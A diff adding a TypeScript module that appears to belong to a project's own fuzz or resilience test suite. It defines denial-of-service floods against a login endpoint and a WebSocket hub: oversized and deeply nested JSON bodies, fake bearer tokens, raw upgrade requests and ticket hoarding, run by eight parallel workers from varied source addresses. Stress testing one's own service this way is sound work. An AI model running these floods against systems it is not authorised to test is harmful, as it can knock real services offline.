@@ -1,0 +1,104 @@
+import type { Answer, Send } from '../fuzz/send'
+import { type Attacked, openLine, type Target } from './lines'
+
+const WORKERS = 8
+
+interface Flood {
+  readonly send: Send
+  readonly site: string
+}
+
+/** Everybody at once, as fast as answers come; says how they were answered. */
+async function storm(
+  { ends }: Target,
+  once: (n: number) => Promise<Pick<Answer, 'http' | 'ms'>>,
+): Promise<Attacked> {
+  const answers = new Map<number, number>()
+  let count = 0
+  let slowest = 0
+  const worker = async () => {
+    while (!ends.aborted) {
+      const { http, ms } = await once(count++)
+      answers.set(http, (answers.get(http) ?? 0) + 1)
+      slowest = Math.max(slowest, ms)
+    }
+  }
+  await Promise.all(Array.from({ length: WORKERS }, worker))
+  const said = [...answers].map(([http, times]) => `${times} × ${http || 'cut'}`).join(', ')
+  return { count, says: `${said}; slowest ${Math.round(slowest)} ms` }
+}
+
+function post({ send, site }: Flood, path: string, body: string | Buffer, from: string) {
+  const headers = { 'content-type': 'application/json' }
+  return send({ url: `${site}${path}`, method: 'POST', headers, body, from })
+}
+
+/** Ten megabytes where 64 KB are allowed. */
+export function sendHuge(target: Target, flood: Flood): Promise<Attacked> {
+  const body = Buffer.alloc(10 * 2 ** 20, 'x')
+  return storm(target, (n) => post(flood, '/api/auth/login', body, target.address(n)))
+}
+
+/** Nested as deep as 64 KB go. */
+export function sendDeep(target: Target, flood: Flood): Promise<Attacked> {
+  const bodies = ['['.repeat(65_000), '{"a":'.repeat(13_000), '[{"a":'.repeat(9_000)]
+  return storm(target, (n) => {
+    const body = bodies[n % bodies.length] ?? ''
+    return post(flood, '/api/auth/login', body, target.address(n))
+  })
+}
+
+/** Invented sessions at the hub’s door, and upgrades with invented tickets. */
+export function floodHub(target: Target, flood: Flood): Promise<Attacked> {
+  return storm(target, async (n) => {
+    const from = target.address(n)
+    if (n % 2 === 0) return upgrade(target.port, from)
+    return flood.send({
+      url: `${flood.site}/hub/negotiate?negotiateVersion=1`,
+      method: 'POST',
+      headers: { authorization: `Bearer ${'A'.repeat(43)}` },
+      body: '',
+      from,
+    })
+  })
+}
+
+async function upgrade(port: number, from: string): Promise<Pick<Answer, 'http' | 'ms'>> {
+  const started = performance.now()
+  const { socket, ...line } = await openLine(port, from)
+  const closed = new Promise((resolve) => socket.once('close', resolve))
+  let text = line.text
+  socket.on('data', (chunk) => {
+    text += chunk
+  })
+  socket.write(
+    [
+      'GET /hub/live?id=x&access_token=x HTTP/1.1',
+      'host: x',
+      'connection: upgrade',
+      'upgrade: websocket',
+      'sec-websocket-version: 13',
+      'sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==',
+      '\r\n',
+    ].join('\r\n'),
+  )
+  await closed
+  return { http: Number(/^HTTP\/1.1 (\d+)/.exec(text)?.[1] ?? 0), ms: performance.now() - started }
+}
+
+/** One member with many sessions who asks for tickets and uses none. */
+export function hoardTickets(
+  target: Target,
+  flood: Flood,
+  tokens: readonly string[],
+): Promise<Attacked> {
+  return storm(target, (n) =>
+    flood.send({
+      url: `${flood.site}/hub/negotiate?negotiateVersion=1`,
+      method: 'POST',
+      headers: { authorization: `Bearer ${tokens[n % tokens.length]}` },
+      body: '',
+      from: target.address(n),
+    }),
+  )
+}
